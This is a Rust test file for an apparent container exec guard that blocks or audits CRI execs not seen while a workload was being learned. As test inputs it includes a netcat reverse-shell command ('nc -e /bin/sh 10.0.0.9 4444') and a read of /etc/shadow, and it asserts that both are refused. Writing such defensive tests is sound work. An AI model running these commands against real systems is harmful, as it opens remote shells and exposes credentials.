use super::*;
use std::os::unix::fs::PermissionsExt as _;
use std::sync::{Arc, Mutex};

use palisade_profile::Recording;
use serde_json::json;

use crate::profile_stage::Applied;
use crate::report::{Observer, SinkContext};
use crate::test_support::{cri_in, recording_of};

/// What a web service did while it learned: the runtime started `nc` (its entrypoint) and
/// `busybox` (an exec probe, `busybox cat /etc/hostname`); `nc` started `sh` (its handler's
/// interpreter).
fn recording() -> Recording {
    let exec = |path: &str, parent: Option<&str>| Observation::Exec {
        path: path.into(),
        parent: parent.map(str::to_string),
    };
    recording_of(&[
        exec("/bin/nc", None),
        exec("/bin/busybox", None),
        exec("/bin/sh", Some("/bin/nc")),
        Observation::RuntimeCommand {
            argv: vec!["/bin/busybox".into(), "cat".into(), "/etc/hostname".into()],
        },
    ])
}

/// The same recording as a document written before CRI exec commands were recorded.
fn recording_without_commands() -> Recording {
    let mut r = recording();
    r.runtime_commands = None;
    r
}

/// A container root like busybox's image: `sh` and `nc` are symlinks to busybox (one
/// relative, one absolute), a binary the service never ran, a file without an execute bit.
fn rootfs() -> tempfile::TempDir {
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    for d in ["bin", "usr/bin", "etc"] {
        std::fs::create_dir_all(r.join(d)).unwrap();
    }
    let exe = |p: &str, mode: u32| {
        std::fs::write(r.join(p), "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(r.join(p), std::fs::Permissions::from_mode(mode)).unwrap();
    };
    exe("bin/busybox", 0o755);
    exe("usr/bin/probe", 0o755);
    exe("usr/bin/readme", 0o644);
    std::os::unix::fs::symlink("busybox", r.join("bin/sh")).unwrap();
    // Absolute: resolved inside the root, never the host's /bin/busybox.
    std::os::unix::fs::symlink("/bin/busybox", r.join("bin/nc")).unwrap();
    root
}

type Seen = Arc<Mutex<Vec<Event>>>;

/// The check of shop/web's container c1 in `mode`, with the events it reports.
fn guard(mode: Mode) -> (ExecGuard, Seen) {
    guard_of(mode, recording())
}

/// The check of shop/web's container c1 in `mode` under `recording`.
fn guard_of(mode: Mode, recording: Recording) -> (ExecGuard, Seen) {
    let seen: Seen = Arc::default();
    let into = seen.clone();
    let reporter = Reporter::start_with(
        crate::report::EventSettings {
            log_dir: std::path::PathBuf::from("/proc/palisade-no-such-dir"),
            metrics_dir: None,
            ..Default::default()
        },
        SinkContext {
            observer: Some(Observer::new(move |e: &Event| {
                into.lock().unwrap().push(e.clone())
            })),
            ..Default::default()
        },
    );
    let applied = Applied {
        workload: crate::test_support::workload(),
        stage: if mode == Mode::Enforce {
            Stage::Enforce
        } else {
            Stage::Audit
        },
        mode,
        policies: Vec::new(),
        recording,
        notes: Vec::new(),
        events: Vec::new(),
    };
    let cri = cri_in("c1", "web-1", "sb1", true);
    (
        ExecGuard::new(&cri, &applied, reporter, "node-a".into()),
        seen,
    )
}

/// Checks an exec of `args` with `env` in `root`: the result and the departures handed on
/// (with whether each was refused).
fn check(
    g: &ExecGuard,
    root: &Path,
    args: &[&str],
    env: &[&str],
) -> (Result<(), ProfileExecError>, Vec<(Observation, bool)>) {
    let mut departed = Vec::new();
    let process = json!({"args": args, "env": env, "cwd": "/"});
    let r = g
        .check("e1", &process, root, |o, refused| {
            departed.push((o, refused))
        })
        .map_err(|e| *e);
    (r, departed)
}

fn command(words: &[&str]) -> Observation {
    Observation::RuntimeCommand {
        argv: words.iter().map(|w| w.to_string()).collect(),
    }
}

#[test]
fn names_resolve_as_the_runtime_resolves_them() {
    let root = rootfs();
    let mut probe = |p: &str| probe_in_root(root.path(), p);
    let path = |p: &str| Ok::<_, std::io::Error>(Resolved::Path(p.into()));
    // A bare name through PATH, the symlink's own name kept (not busybox).
    assert_eq!(
        resolve("sh", "/", None, &mut probe).unwrap(),
        path("/bin/sh").unwrap()
    );
    assert_eq!(
        resolve("nc", "/", Some("/usr/bin:/bin"), &mut probe).unwrap(),
        path("/bin/nc").unwrap()
    );
    // The first PATH directory with an executable regular file wins; a file without an
    // execute bit is skipped, a name found nowhere runs nothing.
    assert_eq!(
        resolve("probe", "/", Some("/bin:/usr/bin"), &mut probe).unwrap(),
        path("/usr/bin/probe").unwrap()
    );
    assert!(matches!(
        resolve("readme", "/", Some("/usr/bin"), &mut probe).unwrap(),
        Resolved::NotRunnable { name, path } if name == "readme" && path == "/usr/bin"
    ));
    assert!(matches!(
        resolve("nosuch", "/", None, &mut probe).unwrap(),
        Resolved::NotRunnable { path, .. } if path == DEFAULT_PATH
    ));
    assert!(matches!(
        resolve("", "/", None, &mut probe).unwrap(),
        Resolved::NotRunnable { .. }
    ));
    // A name with a slash is not searched, and is made absolute against the working
    // directory; an empty PATH entry is the working directory.
    assert_eq!(
        resolve("./sh", "/bin", Some("/nowhere"), &mut probe).unwrap(),
        path("/bin/sh").unwrap()
    );
    assert_eq!(
        resolve("/usr/../bin/nc", "/", None, &mut probe).unwrap(),
        path("/bin/nc").unwrap()
    );
    assert_eq!(
        resolve("busybox", "/bin", Some("/nowhere:"), &mut probe).unwrap(),
        path("/bin/busybox").unwrap()
    );
    // A lookup error is no "not found": the caller fails closed under enforce.
    let mut failing = |_: &str| Err(std::io::Error::from_raw_os_error(libc::EIO));
    assert!(resolve("sh", "/", None, &mut failing).is_err());
}

#[test]
fn enforced_an_exec_the_runtime_never_started_is_refused_and_reported() {
    let root = rootfs();
    let (g, seen) = guard(Mode::Enforce);
    // The exec probe's command stays allowed, by the name it ran and as it ran.
    assert!(
        check(&g, root.path(), &["busybox", "cat", "/etc/hostname"], &[])
            .0
            .is_ok()
    );
    assert!(check(
        &g,
        root.path(),
        &["/bin/busybox", "cat", "/etc/hostname"],
        &[]
    )
    .0
    .is_ok());
    assert!(
        seen.lock().unwrap().is_empty(),
        "allowed execs are not reported"
    );
    // sh is busybox too, but the runtime never started it: only nc did.
    let (r, departed) = check(&g, root.path(), &["sh", "-c", "true"], &["PATH=/bin"]);
    let e = r.unwrap_err();
    let text = e.to_string();
    assert!(
        text.starts_with("container c1: exec e1 refused: /bin/sh was never started by the runtime while shop/web learned"),
        "{text}"
    );
    assert!(text.contains("palisade profile accept shop/web"), "{text}");
    assert!(
        text.contains("palisade profile pin shop/web audit"),
        "{text}"
    );
    // Both what accepting it takes: the exec by the runtime and its command.
    assert_eq!(
        departed,
        vec![
            (
                Observation::Exec {
                    path: "/bin/sh".into(),
                    parent: None
                },
                true
            ),
            (command(&["/bin/sh", "-c", "true"]), true)
        ]
    );
    // A binary the service never ran at all.
    let (r, departed) = check(&g, root.path(), &["/usr/bin/probe", "getpid"], &[]);
    assert!(
        matches!(r, Err(ProfileExecError::NeverStarted { binary, .. }) if binary == "/usr/bin/probe")
    );
    assert_eq!(departed.len(), 2);
    // A name that runs nothing is refused too, with no departure to accept.
    let (r, departed) = check(&g, root.path(), &["nosuch"], &[]);
    assert!(
        matches!(r, Err(ProfileExecError::NotRunnable { .. })),
        "{r:?}"
    );
    assert!(departed.is_empty());
    let seen = seen.lock().unwrap();
    assert_eq!(seen.len(), 3, "{seen:?}");
    let shell = &seen[0];
    assert_eq!(shell.rule.name, RULE);
    assert_eq!(shell.enforcer, ENFORCER);
    assert_eq!(shell.action, Action::Block);
    assert_eq!(shell.workload.pod, "web-1");
    assert_eq!(shell.evidence["path"], "/bin/sh");
    assert_eq!(shell.evidence["policy"], "palisade-learned-web");
    assert_eq!(shell.evidence["workload"], "shop/web");
    assert_eq!(
        shell.process.as_ref().map(|p| p.args.clone()),
        Some(vec!["sh".to_string(), "-c".into(), "true".into()])
    );
    assert!(
        shell
            .rule
            .message
            .contains("exec of /bin/sh by the runtime (a CRI exec) refused"),
        "{}",
        shell.rule.message
    );
}

/// The probe's executable is busybox, which is every applet: its other commands are refused,
/// and the entrypoint's executable does not open CRI execs of it either.
#[test]
fn a_learned_command_allows_itself_not_its_executable() {
    let root = rootfs();
    let (g, seen) = guard(Mode::Enforce);
    let (r, departed) = check(&g, root.path(), &["busybox", "sh", "-c", "true"], &[]);
    let text = r.unwrap_err().to_string();
    assert!(
        text.starts_with("container c1: exec e1 refused: no CRI exec ran the command /bin/busybox sh -c true while shop/web learned (the runtime did start /bin/busybox)"),
        "{text}"
    );
    assert!(text.contains("palisade profile accept shop/web"), "{text}");
    assert_eq!(
        departed,
        vec![(command(&["/bin/busybox", "sh", "-c", "true"]), true)]
    );
    let (r, _) = check(&g, root.path(), &["busybox", "cat", "/etc/shadow"], &[]);
    assert!(
        matches!(r, Err(ProfileExecError::NewCommand { .. })),
        "{r:?}"
    );
    // The entrypoint nc was started by the runtime, but never through a CRI exec.
    let (r, departed) = check(
        &g,
        root.path(),
        &["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
        &[],
    );
    assert!(
        matches!(r, Err(ProfileExecError::NewCommand { .. })),
        "{r:?}"
    );
    assert_eq!(
        departed,
        vec![(
            command(&["/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444"]),
            true
        )]
    );
    let seen = seen.lock().unwrap();
    assert_eq!(seen.len(), 3, "{seen:?}");
    assert!(
        seen[0]
            .rule
            .message
            .contains("no CRI exec ran the command /bin/busybox sh -c true while it learned"),
        "{}",
        seen[0].rule.message
    );
    assert_eq!(seen[0].action, Action::Block);
}

/// A document written before commands were recorded is judged by the executable alone.
#[test]
fn without_recorded_commands_the_executable_decides() {
    let root = rootfs();
    let (g, seen) = guard_of(Mode::Enforce, recording_without_commands());
    assert!(
        check(&g, root.path(), &["busybox", "sh", "-c", "true"], &[])
            .0
            .is_ok()
    );
    assert!(check(&g, root.path(), &["nc", "-h"], &[]).0.is_ok());
    let (r, departed) = check(&g, root.path(), &["sh", "-c", "true"], &[]);
    assert!(
        matches!(r, Err(ProfileExecError::NeverStarted { .. })),
        "{r:?}"
    );
    assert_eq!(
        departed.len(),
        1,
        "only the exec: no commands to depart from"
    );
    assert_eq!(seen.lock().unwrap().len(), 1);
    assert!(g
        .describe()
        .contains("executables the runtime did not start"));
    assert!(g.record()["note"]
        .as_str()
        .unwrap()
        .contains("the profile holds no commands"));
}

#[test]
fn in_audit_it_runs_and_is_reported() {
    let root = rootfs();
    let (g, seen) = guard(Mode::Audit);
    let (r, departed) = check(&g, root.path(), &["sh"], &[]);
    assert!(r.is_ok());
    // The monitor records the exec's departure when it runs: not here, not twice. Its
    // command is departed here, reported (not refused).
    assert_eq!(departed, vec![(command(&["/bin/sh"]), false)]);
    let (r, _) = check(&g, root.path(), &["nosuch"], &[]);
    assert!(r.is_ok(), "nothing runs: nothing to report");
    let seen = seen.lock().unwrap();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].action, Action::Audit);
    assert_eq!(seen[0].enforcer, ENFORCER);
    assert_eq!(seen[0].evidence["refused"], false);
}

#[test]
fn a_lookup_that_fails_refuses_under_enforce_only() {
    let (enforced, _) = guard(Mode::Enforce);
    let (audited, _) = guard(Mode::Audit);
    let failed = || Invocation {
        args: vec!["sh".into()],
        resolved: Err(std::io::Error::from_raw_os_error(libc::EIO)),
    };
    assert!(matches!(
        enforced.verdict(&failed()),
        Verdict::Refuse { departures, .. } if departures.is_empty()
    ));
    assert_eq!(audited.verdict(&failed()), Verdict::Allow);
    // A root that is not there (the container's process gone) is such a failure.
    let (r, _) = check(
        &enforced,
        Path::new("/proc/palisade-no-such-root"),
        &["sh"],
        &[],
    );
    assert!(matches!(r, Err(ProfileExecError::Lookup { .. })), "{r:?}");
}

#[test]
fn the_applied_event_says_what_enforces_it() {
    let (g, _) = guard(Mode::Enforce);
    assert_eq!(
        g.describe(),
        "; CRI execs other than the commands CRI execs ran while learning refused (shim-exec, commands allowed: 1)"
    );
    let record = g.record();
    assert_eq!(record["enforcer"], ENFORCER);
    assert_eq!(record["action"], "Block");
    assert_eq!(record["rule"], "shop/palisade-learned-web: CRI execs");
    let (g, _) = guard(Mode::Audit);
    assert!(g.describe().contains("reported (shim-exec"));
    assert_eq!(g.record()["action"], "Audit");
}
